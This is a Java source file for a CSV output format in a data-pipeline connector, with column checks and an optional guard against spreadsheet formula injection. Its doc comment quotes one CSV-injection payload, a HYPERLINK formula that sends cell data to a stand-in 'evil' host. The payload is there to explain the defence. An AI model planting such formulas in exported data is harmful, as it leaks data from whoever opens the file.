package dev.sluice.connectors.files;

import static java.util.Objects.requireNonNull;

import de.siegmar.fastcsv.writer.CsvWriter;
import dev.sluice.core.ErrorCode;
import dev.sluice.core.SluiceException;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * CSV as RFC 4180 has it, written by FastCSV: UTF-8, a header row, {@code \r\n} between rows, a
 * cell quoted when it holds a comma, a quote or a line break (and a first cell beginning with
 * {@code #}), quotes doubled inside.
 *
 * <p>Cells: text as is, numbers and booleans as their JSON text, {@code null} and missing fields as
 * an empty cell, objects and arrays as compact JSON text.
 *
 * <p>The columns are {@link CsvOptions#columns()}, or else the fields of the file's first record in
 * their order. A record with a field that is not a column fails the window ({@code SINK_REJECTED})
 * rather than losing the field quietly: as it is written, or with {@code file_per: partition} (which
 * needs the columns) as it is staged, through {@link #check}, since the file is built after the commit
 * point.
 *
 * <p><b>Formula neutralising.</b> A spreadsheet such as Excel or LibreOffice runs a cell that begins
 * with {@code =}, {@code +}, {@code -} or {@code @} as a formula (and some also after a leading tab or
 * carriage return), so text from the source such as {@code =HYPERLINK("http://evil/?"&A1)} can leak
 * data or run commands when someone opens the file ("CSV injection"). With
 * {@code neutralize_formulas: true} such a text cell gets a leading {@code '}, which spreadsheets
 * take as "this is text". It is off by default because it changes the data for every other reader.
 * JSON numbers are left alone: {@code -5} is a number, not a formula. Header cells are neutralised too,
 * as field names come from the data.
 */
final class CsvFormat implements FileFormat {
    private final CsvOptions options;

    CsvFormat(CsvOptions options) {
        this.options = requireNonNull(options, "options is null");
    }

    @Override
    public String extension() {
        return "csv";
    }

    @Override
    public RecordEncoder newEncoder(String file) {
        return new Encoder(file);
    }

    /** Needs {@link CsvOptions#columns()}: a record fits when each of its fields is a column or in {@code alsoAllowed}. */
    @Override
    public void check(ObjectNode record, Set<String> alsoAllowed, String file) {
        var allowed = new LinkedHashSet<>(options.columns());
        allowed.addAll(alsoAllowed);
        requireColumns(record, allowed, options.columns(), false, file);
    }

    /** Only the columns, when they are set. */
    @Override
    public ObjectNode fitted(ObjectNode record) {
        return options.columns().isEmpty() ? record : record.retain(options.columns());
    }

    /**
     * Fails the window ({@code SINK_REJECTED}) on a field of {@code record} that is not in
     * {@code allowed}, rather than lose it quietly; the message names the field and the columns.
     */
    private static void requireColumns(ObjectNode record, Set<String> allowed, List<String> columns, boolean fromFirstRecord,
            String file) {
        for (String field : record.propertyNames()) {
            if (!allowed.contains(field)) {
                var withField = new ArrayList<>(columns);
                withField.add(field);
                throw new SluiceException(ErrorCode.SINK_REJECTED, "csv sink: a record of " + file + " has the field '"
                        + field + "', which is not among the columns " + columns
                        + (fromFirstRecord ? " (taken from the file's first record)" : "")
                        + "; list every field under columns: in the sink section, e.g. columns: " + withField
                        + ", or drop the field with a step");
            }
        }
    }

    private final class Encoder implements RecordEncoder {
        private final String file;
        private List<String> columns;
        private Set<String> columnSet;
        private CsvWriter csv;

        Encoder(String file) {
            this.file = file;
        }

        @Override
        public void attach(OutputStream out) {
            csv = CsvWriter.builder().build(out, StandardCharsets.UTF_8);
        }

        @Override
        public void write(ObjectNode record) {
            if (columns == null) {
                columns = options.columns().isEmpty() ? List.copyOf(record.propertyNames()) : options.columns();
                columnSet = new LinkedHashSet<>(columns);
                csv.writeRecord(columns.stream().map(this::text).toList());
            }
            requireColumns(record, columnSet, columns, options.columns().isEmpty(), file);
            var cells = new ArrayList<String>(columns.size());
            for (String c : columns)
                cells.add(cell(record.get(c)));
            csv.writeRecord(cells);
        }

        @Override
        public void flush() throws IOException {
            csv.flush();
        }

        private String cell(JsonNode v) {
            if (v == null || v.isNull() || v.isMissingNode())
                return "";
            if (v.isNumber() || v.isBoolean())
                return v.asString();
            if (v.isContainer())
                return JsonlFormat.JSON.writeValueAsString(v);
            return text(v.asString());
        }

        private String text(String s) {
            return options.neutralizeFormulas() && looksLikeFormula(s) ? "'" + s : s;
        }
    }

    static boolean looksLikeFormula(String s) {
        if (s.isEmpty())
            return false;
        return switch (s.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r' -> true;
            default -> false;
        };
    }
}
